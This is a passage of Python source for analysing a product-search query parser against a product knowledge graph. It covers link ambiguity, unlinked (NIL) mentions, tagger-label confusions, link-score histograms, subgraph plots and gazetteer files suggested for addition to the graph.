        if callable(getattr(parser, "pipe", None)):
            for _ in parser.pipe(queries):
                pass
        else:
            for query in queries:
                parser(query)
    by: dict[str, list[_LinkCall]] = defaultdict(list)
    for c in calls:
        context = getattr(c.context, "text", c.context)  # (a QueryContext, or the text)
        if isinstance(context, str):
            by[context].append(c)
    return {q: by.get(separators_to_spaces(q), []) for q in queries}


def _reading(call: _LinkCall | None, text: str, label: str) -> str | None:
    """What the parse linked of a span, when not the span as tagged: ``'pockets' (any
    kind)`` for "without pockets"."""
    if call is None or (call.mention == text and call.label == label):
        return None
    return f"{call.mention!r} ({call.label or 'any kind'})"


def ambiguity(parsed: Iterable[ParsedQuery] | Rows[Mention], kg: ProductGraph, *,
              top: int | None = None, show: int = 3, parser: Any = None) -> Rows[AmbiguityRow]:
    """Candidates per distinct (mention, label) of the linkable (or linked) mentions, most
    candidates first.

    Args:
        parsed: parsed queries (or :func:`mentions`).
        kg: the KG the queries were linked against.
        top: keep this many rows (None: all).
        show: candidates named in ``top`` (``"label (kind) 0.83"``).
        parser: the :class:`parser.QueryParser` that parsed them: the candidates are then
            those of the linker it links with (its tagger's vocabulary and its bundle's
            settings), else ``kg.link``'s, which may name candidates the parse never had
            ("sneakers": Speakers, a typo without the vocabulary). ``linked_to`` is the
            parse's own link either way, and the candidates are those of the mention in a
            query where the parse linked it so: with ``parser``, of the parse's own link call
            for it (that query parsed again: a span linked through a cue, "without
            pockets", shows the candidates of the words after it).
    """
    groups: dict[tuple[str, str], list[Mention]] = defaultdict(list)
    for m in _as_mentions(parsed):
        if (m.linkable or m.kg_id is not None) and m.norm:
            groups[(m.norm, m.label)].append(m)
    linker = _linker(kg, parser)
    # (a linker of another kind, e.g. a test's, may generate nothing on its own)
    generator = linker if callable(getattr(linker, "generate", None)) else _linker(kg)
    examples: dict[tuple[str, str], Mention] = {}
    for key, ms in groups.items():
        links = Counter(m.kg_id for m in ms)
        link = max(links, key=links.__getitem__)  # (the first seen of the most frequent)
        examples[key] = next(m for m in ms if m.kg_id == link)
    # the parse's own link calls (a span linked through a cue: "without pockets")
    calls = _parse_calls(parser, (m.query for m in examples.values())) \
        if parser is not None else None
    rows: Rows[AmbiguityRow] = Rows(row_type=AmbiguityRow)
    for (norm, label), ms in groups.items():
        example = examples[(norm, label)]
        call = _parse_call(calls.get(example.query, ()), example.text, label, example.kg_id) \
            if calls is not None else None
        if call is not None:
            result = call.result
            generated = _generate(generator, call.mention, call.label, call.context)
        else:
            result = _link(linker, example.text, label, example.query)
            generated = _generate(generator, example.text, label, example.query)
        cands = result.candidates
        margin = round(cands[0].score - cands[1].score, 4) if len(cands) > 1 else None
        rows.append(AmbiguityRow(
            mention=norm, label=label, count=len(ms), candidates=len(generated),
            kinds=len({c.kind for c, _, _ in generated}),
            top=tuple(f"{c.label} ({c.kind}) {c.score:.2f}" for c in cands[:show]),
            margin=margin, linked_to=example.kg_label))
    rows.sort(key=lambda r: (-r.candidates, -r.count, r.margin if r.margin is not None else 9,
                             r.mention))
    return Rows(rows[:top], row_type=rows.row_type) if top is not None else rows


def _generate(linker: Any, text: str, label: str | None, context: str | None) -> list[Any]:
    try:
        return linker.generate(text, label, context)
    except ValueError:  # a label the linker does not know: as _link
        return linker.generate(text, None, context)


def candidate_counts(rows: Iterable[AmbiguityRow]) -> dict[int, int]:
    """Number of candidates -> number of mention occurrences with that many (for a bar chart)."""
    out: Counter[int] = Counter()
    for r in rows:
        out[r.candidates] += r.count
    return dict(sorted(out.items()))


# -- NIL mentions -------------------------------------------------------------------------------
@dataclass(frozen=True, slots=True)
class NilRow:
    """A mention text that linked to nothing, in queries searched ``count`` times (a query
    once, however often it holds the text), with the labels it had; ``in_kg``: what the KG
    has under that name (:func:`nil_mentions`)."""

    text: str
    count: float
    labels: tuple[str, ...]
    example: str
    in_kg: str = ""


#: What the KG has under a NIL mention's name (:attr:`NilRow.in_kg`, :func:`kg_additions`).
ABSENT = "absent"
IN_KG_NOT_LINKABLE = "in the KG, not linkable"
IN_KG_OTHER_KIND = "in the KG as another kind"
IN_KG_LINKABLE = "in the KG, linkable"


def _in_kg(kg: ProductGraph, text: str, label: str, unlinkable: frozenset[str],
           lk: Mapping[str, tuple[str, ...]] = DEFAULT_LABEL_KINDS) -> tuple[str, tuple[str, ...]]:
    """What the KG has under the name ``text`` (a NIL mention tagged ``label``), and of which
    kinds: :data:`ABSENT`, nothing; :data:`IN_KG_NOT_LINKABLE`, only nodes marked
    non-linkable (lexicon only: loading the name again changes nothing; make it an alias of a
    linkable node); :data:`IN_KG_OTHER_KIND`, linkable nodes of kinds ``label`` may not link
    to (a tagger error, :func:`type_confusions`); :data:`IN_KG_LINKABLE`, a linkable node the
    label may link to, which the linker did not take in that query (its score, or the
    query's audience: :func:`drill_down`). A name is the KG's when a node has it as its name
    or an alias, or when the linker matches a node by it exactly or up to number or
    possessive ("tvs")."""
    known: list[Any] = list(kg.alias_index.lookup(text))
    if not known:
        best = kg.link(text, label=None).best
        if best is not None and best.match_type in ("exact", "alias"):  # plural, possessive
            known = [best]
    if not known:
        return ABSENT, ()

    def kind(c: Any) -> str:
        return _kind_name(str(getattr(c.kind, "value", c.kind) or ""), c.attribute)

    linkable = [c for c in known if c.iri not in unlinkable]
    fits = [c for c in linkable if label not in lk or _compatible(label, kind(c), lk)]
    reason, of = ((IN_KG_LINKABLE, fits) if fits else (IN_KG_OTHER_KIND, linkable) if linkable
                  else (IN_KG_NOT_LINKABLE, known))
    return reason, tuple(sorted({kind(c) for c in of}))


def nil_mentions(parsed: Iterable[ParsedQuery] | Rows[Mention], *,
                 top: int | None = None, kg: ProductGraph | None = None,
                 searches: Sequence[float] | None = None) -> Rows[NilRow]:
    """NIL mentions (linkable label, no KG node) grouped by normalised text, most searched
    first: the strings the parse could not link. ``count``: the searches of the queries that
    hold the text (``searches``: each parsed query's, in order, e.g. a :class:`QueryLog`'s;
    default 1 each, so a count of queries), a query counted once.

    With ``kg``, ``in_kg`` says what the KG has under the name: ``absent`` (a gap:
    :func:`kg_additions` suggests it), ``in the KG, not linkable: KIND`` (a lexicon-only node:
    make the name an alias of a linkable node), ``in the KG as another kind: KIND`` (the
    tagger's label does not fit it: :func:`type_confusions`) or ``in the KG, linkable: KIND``
    (the linker did not take it in that query: :func:`drill_down`)."""
    groups: dict[str, list[Mention]] = defaultdict(list)
    counts: Counter[str] = Counter()
    for ms in _by_query(parsed, searches):
        seen: set[str] = set()
        for m in ms:
            if m.nil and m.norm:
                groups[m.norm].append(m)
                if m.norm not in seen:  # a repeat inside one query is no other search
                    seen.add(m.norm)
                    counts[m.norm] += m.searches
    rows = Rows((
        NilRow(text=norm, count=counts[norm],
               labels=tuple(f"{lab}×{n}" if n > 1 else lab
                            for lab, n in Counter(m.label for m in ms).most_common()),
               example=ms[0].query)
        for norm, ms in groups.items()
    ), row_type=NilRow)
    rows.sort(key=lambda r: (-r.count, r.text))
    rows = Rows(rows[:top], row_type=rows.row_type) if top is not None else rows
    if kg is not None:
        from kg.link import unlinkable_iris

        unlinkable = unlinkable_iris(kg)
        for i, r in enumerate(rows):
            ms = groups[r.text]
            label = Counter(m.label for m in ms).most_common(1)[0][0]
            reason, kinds = _in_kg(kg, ms[0].text, label, unlinkable)
            rows[i] = replace(r, in_kg=f"{reason}: {', '.join(kinds)}" if kinds else reason)
    return rows


# -- type confusions ----------------------------------------------------------------------------
@dataclass(frozen=True, slots=True)
class ConfusionRow:
    """``count`` mentions tagged ``label`` that the KG knows as ``kind`` (``"NIL"``: unknown);
    ``compatible``: the label may link to that kind (:data:`kg.link.DEFAULT_LABEL_KINDS`)."""

    label: str
    kind: str
    count: int
    compatible: bool
    examples: tuple[str, ...] = ()


def _kind_name(kind: str | None, attribute: str | None) -> str:
    if not kind:
        return NIL
    return f"{kind}:{attribute}" if attribute else kind


def _compatible(label: str, kind: str, lk: Mapping[str, tuple[str, ...]]) -> bool:
    if kind == NIL:
        return False
    k, _, attr = kind.partition(":")
    for spec in lk.get(label, ()):
        sk, _, sa = spec.partition(":")
        if sk == k and (not sa or sa == attr):
            return True
    return False


def type_confusions(parsed: Iterable[ParsedQuery] | Rows[Mention], kg: ProductGraph | None = None,
                    *, label_kinds: Mapping[str, tuple[str, ...]] | None = None
                    ) -> Rows[ConfusionRow]:
    """Tagger label x KG node kind.

    With ``kg``, every mention is linked again WITHOUT its label (``kg.link(text, None)``), so
    the kind is what the KG knows the string as: ``creator`` -> ``category`` means the tagger
    called a category name a brand. Without ``kg``, the kinds the parser linked to are counted
    (type-checked by the linker, so mostly compatible). Sorted: incompatible pairs first.
    """
    lk = DEFAULT_LABEL_KINDS if label_kinds is None else label_kinds
    counts: Counter[tuple[str, str]] = Counter()
    examples: dict[tuple[str, str], list[str]] = defaultdict(list)
    cache: dict[tuple[str, str], str] = {}
    for m in _as_mentions(parsed):
        if kg is None:
            kind = m.kg_kind or NIL
        else:
            key = (m.norm, m.query)
            if key not in cache:
                # the top candidate, NIL or not: what the KG knows the string as
                cands = kg.link(m.text, label=None, context=m.query).candidates if m.norm else ()
                top = cands[0] if cands else None
                cache[key] = _kind_name(top.kind, top.attribute) if top else NIL
            kind = cache[key]
        counts[(m.label, kind)] += 1
        ex = examples[(m.label, kind)]
        if len(ex) < 3 and m.text not in ex:
            ex.append(m.text)
    rows = Rows((ConfusionRow(label=lab, kind=kind, count=n,
                              compatible=_compatible(lab, kind, lk),
                              examples=tuple(examples[(lab, kind)]))
                 for (lab, kind), n in counts.items()), row_type=ConfusionRow)
    rows.sort(key=lambda r: (r.compatible, r.kind == NIL, -r.count, r.label, r.kind))
    return rows


def plot_confusions(ax: Any, rows: Sequence[ConfusionRow], *, cmap: str = "Blues") -> Any:
    """Heatmap of :func:`type_confusions` on matplotlib ``ax`` (labels x kinds, counts written
    in the cells, incompatible cells outlined in red); returns ``ax``."""
    labels = sorted({r.label for r in rows})
    kinds = sorted({r.kind for r in rows}, key=lambda k: (k == NIL, k))
    grid = [[0] * len(kinds) for _ in labels]
    for r in rows:
        grid[labels.index(r.label)][kinds.index(r.kind)] += r.count
    ax.imshow(grid if rows else [[0]], cmap=cmap, aspect="auto")
    ax.set_xticks(range(len(kinds)), kinds, rotation=45, ha="right")
    ax.set_yticks(range(len(labels)), labels)
    for r in rows:
        i, j = labels.index(r.label), kinds.index(r.kind)
        ax.text(j, i, str(r.count), ha="center", va="center", fontsize=8)
        if not r.compatible and r.kind != NIL:
            from matplotlib.patches import Rectangle

            ax.add_patch(Rectangle((j - 0.5, i - 0.5), 1, 1, fill=False, edgecolor="red", lw=1.5))
    ax.set_xlabel("KG node kind of the mention (unlabelled link)")
    ax.set_ylabel("tagger label")
    ax.set_title("tagger label vs KG kind (red: incompatible)")
    return ax


# -- link scores --------------------------------------------------------------------------------
@dataclass(frozen=True, slots=True)
class LinkScores:
    """Link scores: of linked mentions, and of the best (rejected) candidate of NIL mentions;
    ``rejected_type``: those of ``rejected`` whose candidate the linker ruled out for its type
    (a node kind the tagger label may not link to, or a category of an audience the query
    rules out), whatever its score.

    Example:
        >>> LinkScores(linked=[0.9, 0.7], rejected=[0.5], threshold=0.55).histogram(bins=2)
        ([0.0, 0.5, 1.0], [0, 2], [0, 1])
        >>> LinkScores(linked=[0.7, 0.3]).histogram(bins=20)[1][6:15:8]
        [1, 1]
    """

    linked: list[float] = field(default_factory=list)
    rejected: list[float] = field(default_factory=list)
    threshold: float = LinkerConfig().nil_threshold
    rejected_type: list[float] = field(default_factory=list)

    def histogram(self, *, bins: int = 20, lo: float = 0.0, hi: float = 1.0
                  ) -> tuple[list[float], list[int], list[int]]:
        """``(edges, linked_counts, rejected_counts)`` over ``bins`` equal bins of [lo, hi]."""
        if bins < 1:
            raise ValueError(f"bins must be >= 1, got {bins}")
        width = (hi - lo) / bins
        edges = [round(lo + i * width, 6) for i in range(bins + 1)]

        def count(values: list[float]) -> list[int]:
            # a score on an edge goes into the bin it opens ([0.65, 0.7) holds 0.65), found
            # on the rounded edges: 0.7 / 0.05 is 13.999... in floating point
            c = [0] * bins
            for v in values:
                c[min(max(bisect.bisect_right(edges, v) - 1, 0), bins - 1)] += 1
            return c

        return edges, count(self.linked), count(self.rejected)


def link_scores(parsed: Iterable[ParsedQuery] | Rows[Mention], kg: ProductGraph | None = None,
                *, parser: Any = None) -> LinkScores:
    """Scores of the linked mentions; with ``kg`` (or ``parser``), also the best candidate's
    score of each NIL mention that had candidates (so the histogram shows what the NIL
    threshold cut off). With ``parser``, the candidates are those of the linker it links
    with (:func:`ambiguity`), so a rejected score at or above the threshold is one of a
    candidate ruled out for its type; ``kg.link`` alone (no tagger vocabulary) may score
    candidates the parse never had ("sneakers": Speakers)."""
    linker = _linker(kg, parser) if kg is not None or parser is not None else None
    linked: list[float] = []
    rejected: list[float] = []
    rejected_type: list[float] = []
    for m in _as_mentions(parsed):
        if m.link_score is not None:
            linked.append(m.link_score)
        elif linker is not None and m.nil and m.norm:
            cands = _link(linker, m.text, m.label, m.query).candidates
            if cands:
                rejected.append(round(cands[0].score, 6))
                if cands[0].type_compatibility == 0.0:
                    rejected_type.append(rejected[-1])
    config = getattr(linker, "config", None)
    threshold = config.nil_threshold if config is not None else LinkerConfig().nil_threshold
    return LinkScores(linked=linked, rejected=rejected, threshold=threshold,
                      rejected_type=rejected_type)


def plot_link_scores(ax: Any, scores: LinkScores, *, bins: int = 20, title: str | None = None
                     ) -> Any:
    """Stacked histogram of :class:`LinkScores` on matplotlib ``ax`` with the NIL threshold.

    Rejected candidates at or above the threshold are counted in a note on the plot: those
    the linker ruled out for their type (:attr:`LinkScores.rejected_type`), and any others,
    of a kind the label may link to: scores of another linker than the parse's
    (:func:`link_scores` without ``parser``), which the parse never gave."""
    edges, linked, rejected = scores.histogram(bins=bins)
    width = edges[1] - edges[0]
    ax.bar(edges[:-1], linked, width=width, align="edge", color="#2b8cbe", edgecolor="white",
           label=f"linked (n={len(scores.linked)})")
    ax.bar(edges[:-1], rejected, width=width, align="edge", bottom=linked, color="#fdae6b",
           edgecolor="white", label=f"NIL: best candidate, rejected (n={len(scores.rejected)})")
    ax.axvline(scores.threshold, color="black", linestyle="--", lw=1,
               label=f"NIL threshold {scores.threshold:.2f}")
    from matplotlib.ticker import MaxNLocator

    ax.set_xlim(edges[0], edges[-1])
    ax.set_ylim(0, max([a + b for a, b in zip(linked, rejected, strict=True)] + [1]) * 1.3)
    ax.yaxis.set_major_locator(MaxNLocator(integer=True))
    above = sum(v >= scores.threshold for v in scores.rejected)
    if above:
        of_type = sum(v >= scores.threshold for v in scores.rejected_type)
        parts = [f"{of_type} for their type"] if of_type else []
        if above > of_type:
            parts.append(f"{above - of_type} of a kind the label may link to")
        ax.text(0.99, 0.97, "\n".join(["rejected at or above the threshold:", *parts]),
                transform=ax.transAxes, ha="right", va="top", fontsize=7)
    ax.set_xlabel("link score")
    ax.set_ylabel("mentions")
    ax.set_title(title or "Distribution of entity-link scores")
    ax.legend(loc="upper left", fontsize=8)
    return ax


# -- subgraph -----------------------------------------------------------------------------------
def top_linked(parsed: Iterable[ParsedQuery] | Rows[Mention], n: int = 3) -> list[str]:
    """The ``n`` most often linked KG node IRIs."""
    c = Counter(m.kg_id for m in _as_mentions(parsed) if m.kg_id)
    return [iri for iri, _ in c.most_common(n)]


def subgraph(kg: ProductGraph, iris: Iterable[str], *, radius: int = 1, max_nodes: int = 40,
             max_neighbors: int = 8) -> nx.MultiDiGraph:
    """The KG around ``iris``: nodes within ``radius`` edges (either direction), at most
    ``max_neighbors`` per node (hubs like a big category are cut) and ``max_nodes`` in all.
    Seed nodes get the attribute ``seed=True``. A copy: safe to modify."""
    g = kg.to_networkx()
    iris = list(dict.fromkeys(iris))
    seeds = [i for i in iris if i in g]
    missing = [i for i in iris if i not in g]
    if missing:
        logger.warning("subgraph: %d IRIs are not in the KG, e.g. %s", len(missing), missing[0])
    keep: dict[str, None] = dict.fromkeys(seeds[:max_nodes])
    frontier = list(keep)
    for _ in range(radius):
        nxt: list[str] = []
        for node in frontier:
            neigh = sorted(set(g.successors(node)) | set(g.predecessors(node)),
                           key=lambda x: (g.degree(x), str(g.nodes[x].get("label"))),
                           reverse=True)
            for other in [x for x in neigh if x not in keep][:max_neighbors]:
                if len(keep) >= max_nodes:
                    break
                keep[other] = None
                nxt.append(other)
        frontier = nxt
    sub = g.subgraph(keep).copy()
    for s in seeds:
        if s in sub:
            sub.nodes[s]["seed"] = True
    return sub


_KIND_COLORS = {"category": "#9ecae1", "brand": "#fc9272", "product": "#a1d99b",
                "product_type": "#fdd0a2", "attribute_value": "#dadaeb"}


def draw_subgraph(ax: Any, g: nx.MultiDiGraph, *, seed: int = 0, max_label: int = 22,
                  edge_labels: bool = True) -> Any:
    """Draw a :func:`subgraph` on matplotlib ``ax``: nodes coloured by kind, seeds outlined,
    edges labelled with their relation; returns ``ax``."""
    import networkx as nx
    from matplotlib.lines import Line2D

    ax.set_axis_off()
    if g.number_of_nodes() == 0:
        ax.set_title("(empty subgraph: no linked entities)")
        return ax
    pos = nx.spring_layout(nx.Graph(g), seed=seed, k=1.2 / max(g.number_of_nodes(), 1) ** 0.5)
    nodes = list(g.nodes)
    colors = [_KIND_COLORS.get(g.nodes[n].get("kind") or "", "#cccccc") for n in nodes]
    sizes = [700 if g.nodes[n].get("seed") else 300 for n in nodes]
    edgecolors = ["black" if g.nodes[n].get("seed") else "none" for n in nodes]
    nx.draw_networkx_nodes(g, pos, nodelist=nodes, node_color=colors, node_size=sizes,
                           edgecolors=edgecolors, ax=ax)
    nx.draw_networkx_edges(g, pos, ax=ax, alpha=0.4, arrows=True, arrowsize=8,
                           node_size=sizes)
    labels = {}
    for n in nodes:
        text = str(g.nodes[n].get("label") or n.rsplit("/", 1)[-1])
        labels[n] = text if len(text) <= max_label else text[: max_label - 1] + "…"
    nx.draw_networkx_labels(g, pos, labels=labels, font_size=7, ax=ax)
    if edge_labels:
        rel = {(u, v): d.get("relation", "") for u, v, d in g.edges(data=True)}
        nx.draw_networkx_edge_labels(g, pos, edge_labels=rel, font_size=6, ax=ax, alpha=0.7)
    kinds = sorted({g.nodes[n].get("kind") or "?" for n in nodes})
    ax.legend(handles=[Line2D([], [], marker="o", linestyle="", markersize=8,
                              markerfacecolor=_KIND_COLORS.get(k, "#cccccc"),
                              markeredgecolor="none", label=k) for k in kinds],
              loc="lower left", fontsize=7)
    ax.set_title(f"KG neighbourhood of linked entities ({g.number_of_nodes()} nodes)")
    return ax


# -- what to add --------------------------------------------------------------------------------
@dataclass(frozen=True, slots=True)
class AdditionRow:
    """A name to add to the KG as a node of ``node_kind`` (``attribute`` for attribute values),
    a NIL mention in queries searched ``count`` times (a query once)."""

    name: str
    node_kind: str
    attribute: str | None
    count: float
    labels: tuple[str, ...]
    example: str


_HAS_LETTER = re.compile(r"[^\W\d_]", re.UNICODE)
#: Words never suggested as KG nodes on their own (function words a tagger may mis-tag).
STOPWORDS = frozenset([
    "a", "an", "and", "are", "as", "at", "be", "by", "for", "from", "in", "into", "is", "it",
    "of", "off", "on", "or", "the", "to", "up", "with", "without", "w/", "w/o",
])


def _suggestable(norm: str, stopwords: frozenset[str]) -> bool:
    """Whether the normalised name ``norm`` may be a KG node: a letter in it (not a size or a
    model number), two characters at least ("c" is no product) and a word that is no stop
    word ("for the")."""
    return len(norm) >= 2 and bool(_HAS_LETTER.search(norm)) \
        and any(w not in stopwords for w in norm.split())


#: Why :func:`kg_additions` leaves out a name the KG has (:func:`_in_kg`), for its log.
_LEFT_OUT = {
    IN_KG_NOT_LINKABLE: "only on nodes marked non-linkable (lexicon only: loading the name "
                        "again changes nothing; make it an alias of a linkable node)",
    IN_KG_OTHER_KIND: "as another kind (a tagger error: see type_confusions)",
    IN_KG_LINKABLE: "on a linkable node the linker did not take (see drill_down)",
}


def kg_additions(parsed: Iterable[ParsedQuery] | Rows[Mention], kg: ProductGraph | None = None,
                 *, min_count: float = 1, min_score: float = 0.0,
                 kinds: Mapping[str, tuple[str, str | None]] | None = None,
                 stopwords: frozenset[str] = STOPWORDS,
                 searches: Sequence[float] | None = None) -> Rows[AdditionRow]:
    """What to add to the KG: NIL mentions as candidate nodes, most searched first.

    Each NIL mention becomes a node of the kind its tagger label maps to (:data:`ADDITION_KINDS`;
    a name seen with several labels takes the most frequent; a label ``kinds`` does not map is
    not suggested). ``count``: the searches of the queries that hold it (``searches``: each
    parsed query's, in order, e.g. a :class:`QueryLog`'s; default 1 each), a query counted
    once. Skipped: names without a letter (sizes, model numbers), of one character, of
    ``stopwords`` only (:data:`STOPWORDS`), tagger scores below ``min_score``, names whose
    ``count`` is below ``min_count`` and, with ``kg``, names the KG
    already has as a name or alias of any node (the ``in_kg`` of :func:`nil_mentions`): of a
    node marked non-linkable (lexicon only: loading the name again would change nothing), of
    another kind (a tagger error, see :func:`type_confusions`, not a KG gap) or of a node the
    linker did not take. How many names (and searches) were left out for each reason is
    logged at INFO level.

    The defaults take every name (``min_count=1``, :data:`ADDITION_KINDS`), as for spans a
    person confirmed (``kgqp learn gazetteer``). Of parses, most NIL mentions are tagger slips
    and descriptive words: ask for more evidence, as the notebook does,
    ``min_count=PARSE_MIN_COUNT`` (a name NIL in two queries, or searched twice) and
    ``kinds=PARSE_ADDITION_KINDS`` (no ``modifier``).
    """
    table = ADDITION_KINDS if kinds is None else kinds
    groups: dict[str, list[Mention]] = defaultdict(list)
    counts: Counter[str] = Counter()
    for ms in _by_query(parsed, searches):
        seen: set[str] = set()
        for m in ms:
            if (m.nil and m.label in table and m.score >= min_score
                    and _suggestable(m.norm, stopwords)):
                groups[m.norm].append(m)
                if m.norm not in seen:  # a repeat inside one query is no other search
                    seen.add(m.norm)
                    counts[m.norm] += m.searches
    unlinkable: frozenset[str] = frozenset()
    if kg is not None:
        from kg.link import unlinkable_iris

        unlinkable = unlinkable_iris(kg)
    left: Counter[str] = Counter()
    left_searches: Counter[str] = Counter()
    rows: Rows[AdditionRow] = Rows(row_type=AdditionRow)
    for norm, ms in groups.items():
        if counts[norm] < min_count:
            left["rare"] += 1
            left_searches["rare"] += counts[norm]
            continue
        label_counts = Counter(m.label for m in ms)
        top_label = label_counts.most_common(1)[0][0]
        if kg is not None:
            reason, of = _in_kg(kg, ms[0].text, top_label, unlinkable)
            if reason != ABSENT:
                logger.debug("kg_additions: %r is already %s", norm,
                             f"{reason}: {', '.join(of)}")
                left[reason] += 1
                left_searches[reason] += counts[norm]
                continue
        kind, attribute = table[top_label]
        name = Counter(m.text.strip() for m in ms).most_common(1)[0][0]
        rows.append(AdditionRow(name=name, node_kind=kind, attribute=attribute,
                                count=counts[norm],
                                labels=tuple(lab for lab, _ in label_counts.most_common()),
                                example=ms[0].query))
    rows.sort(key=lambda r: (-r.count, r.node_kind, r.name))
    if left:
        why = [f"{left[r]} names ({left_searches[r]} searches) the KG has {_LEFT_OUT[r]}"
               for r in _LEFT_OUT if left[r]]
        if left["rare"]:
            why.append(f"{left['rare']} names searched fewer than min_count={min_count} times")
        logger.info("kg_additions: %d names suggested; left out: %s", len(rows), "; ".join(why))
    return rows


@dataclass(frozen=True, slots=True)
class GazetteerFile:
    """A gazetteer written by :func:`write_gazetteers` and the command that loads it;
    ``dropped``: names left out of it, as ``kgqp kg load`` would refuse them."""

    path: str
    node_kind: str
    attribute: str | None
    names: int
    command: str
    source: str = "kgqp-analysis"
    #: what a bad row does: "abort" loads nothing of the file (``kgqp kg load``'s default)
    on_error: str = "abort"
    dropped: tuple[str, ...] = ()

    @property
    def options(self) -> dict[str, str]:
        """The gazetteer loader's options (``kgqp kg load ... --node-kind K --option k=v
        --on-error E``)."""
        opts = {"node_kind": self.node_kind}
        if self.attribute:
            opts["attribute"] = self.attribute
        return {**opts, "source": self.source, "on_error": self.on_error}


def _gazetteer_key(kind: str, attribute: str | None, name: str) -> str:
    """The key the gazetteer loader gives ``name`` in a file of ``kind`` nodes
    (:func:`kg.loaders.gazetteer.load_gazetteer`; a category's key has the file's source
    before it): two names of one key are one node to the loader, which refuses the second
    when they are not the same name up to case, spaces and symbols ("s10" and "s10+")."""
    if kind == "brand":
        return brand_key(name)
    if kind == "attribute_value":
        return attribute_key(attribute or "", name)
    return slug(name)


def write_gazetteers(rows: Iterable[AdditionRow], out_dir: str | Path, *, kg_dir: str = "KGDIR",
                     source: str = "kgqp-analysis") -> Rows[GazetteerFile]:
    """Write ``rows`` as gazetteer files under ``out_dir``, one name per line, one file per node
    kind (and attribute): ``brand.txt``, ``attribute_value-color.txt`` ... Each comes with its
    ``kgqp kg load`` command (``kg_dir`` is put in the command as is), which loads the whole
    file or nothing (``--on-error abort``). Of names the loader gives one key ("s10" and
    "s10+", which it would refuse together), the most searched is written and the others are
    left out (``GazetteerFile.dropped``, logged as a warning)."""
    import shlex

    from kg.loaders.gazetteer import load_gazetteer
    from kg.schema import LoadReport

    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    by: dict[tuple[str, str | None], list[AdditionRow]] = defaultdict(list)
    for r in rows:
        by[(r.node_kind, r.attribute)].append(r)
    files: Rows[GazetteerFile] = Rows(row_type=GazetteerFile)
    for (kind, attribute), group in sorted(by.items(), key=lambda kv: (kv[0][0], kv[0][1] or "")):
        path = out / (f"{kind}-{attribute}.txt" if attribute else f"{kind}.txt")
        kept: dict[str, str] = {}  # the loader's key -> the name written
        dropped: list[str] = []
        for r in sorted(group, key=lambda r: -r.count):  # (stable: the rows' order in a tie)
            key = _gazetteer_key(kind, attribute, r.name)
            if key in kept:
                dropped.append(r.name)
                logger.debug("write_gazetteers: %r has the loader's key of %r (%s)", r.name,
                             kept[key], key)
            else:
                kept[key] = r.name
        names = list(kept.values())
        atomic_write_text(path, "".join(n + "\n" for n in names))
        f = GazetteerFile(path=str(path), node_kind=kind, attribute=attribute, names=len(names),
                          command="", source=source, dropped=tuple(dropped))
        # the file as its command reads it: a row it would refuse raises here, not there
        list(load_gazetteer(path, report=LoadReport(str(path)), **f.options))
        cmd = ["kgqp", "kg", "load", kg_dir, str(path), "--kind", "gazetteer",
               "--node-kind", kind]
        for k, v in f.options.items():
            if k not in ("node_kind", "on_error"):
                cmd += ["--option", f"{k}={v}"]
        cmd += ["--on-error", f.on_error]
        files.append(replace(f, command=shlex.join(cmd)))
        if dropped:
            logger.warning("%s: left out %d names that share the gazetteer loader's key with a "
                           "more searched one (it loads one name per key), e.g. %s", path,
                           len(dropped), ", ".join(map(repr, dropped[:5])))
        logger.info("wrote %d %s names to %s", len(names), kind, path)
    return files


def kg_with_additions(kg: ProductGraph, files: Iterable[GazetteerFile]) -> Path:
    """A scratch copy of ``kg`` with the gazetteer ``files`` loaded (one transaction each, with
    their ``on_error``, as their commands would: with ``abort``, a file the loader refuses
    raises here as the command fails): the "after" side of :func:`compare_parses`. The copy
    lives in a temporary directory that is removed when the process (the notebook's kernel)
    exits; the bundle's KG is never written.

    >>> import tempfile
    >>> from kg import ProductGraph
    >>> d = Path(tempfile.mkdtemp())
    >>> from kg.schema import Node, NodeKind
    >>> with ProductGraph.open(d / "kg") as kg, kg.transaction(message="a brand") as tx:
    ...     tx.add_node(Node(NodeKind.BRAND, "acme", "Acme"))
    >>> _ = (d / "brand.txt").write_text("zzbrand\\n", encoding="utf-8")
    >>> kg = ProductGraph.open(d / "kg", read_only=True)
    >>> after = kg_with_additions(kg, [GazetteerFile(str(d / "brand.txt"), "brand", None, 1, "")])
    >>> ProductGraph.open(after, read_only=True).version > kg.version
    True
    >>> import shutil; shutil.rmtree(d)
    """
    import atexit
    import shutil
    import tempfile

    from kg import ProductGraph
    from kg.loaders import load_sources

    if kg.path is None:
        raise ValueError("kg_with_additions needs a KG on disk (ProductGraph.open(DIR))")
    scratch = Path(tempfile.mkdtemp(prefix="kgqp-nb-"))
    atexit.register(shutil.rmtree, scratch, ignore_errors=True)
    after = scratch / "kg"
    shutil.copytree(kg.path, after)
    with ProductGraph.open(after) as g:
        for f in files:
            load_sources(g, [f.path], kind="gazetteer", options=f.options, progress=False)
    return after


# -- one query in full --------------------------------------------------------------------------
@dataclass(frozen=True, slots=True)
class SpanRow:
    """A span of the query, its tagger score and the link decision (``linked``, ``NIL`` or
    ``not linkable``: a label that never links, such as price); ``candidates``: those of the
    parse's link call that decided it; ``linked_as``: the words and label that call linked,
    when not the span as tagged (``'pockets' (any kind)`` of "without pockets", linked
    through its negation cue)."""

    text: str
    start: int
    end: int
    label: str
    tag_score: float
    decision: str
    kg_label: str | None
    kg_kind: str | None
    link_score: float | None
    candidates: int
    linked_as: str | None = None


@dataclass(frozen=True, slots=True)
class CandidateRow:
    """A KG candidate of a span with the linker's features; ``chosen``: the parse linked it."""

    mention: str
    label: str
    rank: int
    kg_label: str
    kind: str
    score: float
    match_type: str
    matched_alias: str
    similarity: float
    type_compatibility: float
    prior: float
    context: float
    chosen: bool
    iri: str


@dataclass(frozen=True, slots=True)
class IntentRow:
    """One of the intent's top categories."""

    rank: int
    category: str
    probability: float


@dataclass(frozen=True, slots=True)
class ExpansionRow:
    """An expansion with the KG path (``subject -relation-> object`` steps) or the rule behind
    it."""

    term: str
    kind: str
    score: float
    provenance: str
    rule: str | None


@dataclass
class DrillDown:
    """Everything the parser did with one query (:func:`drill_down`); shows as markdown in
    Jupyter, :meth:`tables` for CSV/DataFrames."""

    query: str
    normalized: str
    spans: Rows[SpanRow]
    candidates: Rows[CandidateRow]
    intent: Rows[IntentRow]
    expansions: Rows[ExpansionRow]
    filters: dict[str, Any] = field(default_factory=dict)

    def tables(self) -> dict[str, Rows[Any]]:
        return {"spans": self.spans, "candidates": self.candidates, "intent": self.intent,
                "expansions": self.expansions}

    def _repr_markdown_(self) -> str:
        parts = [f"**{_cell(self.query)}** (normalised: `{self.normalized}`)"]
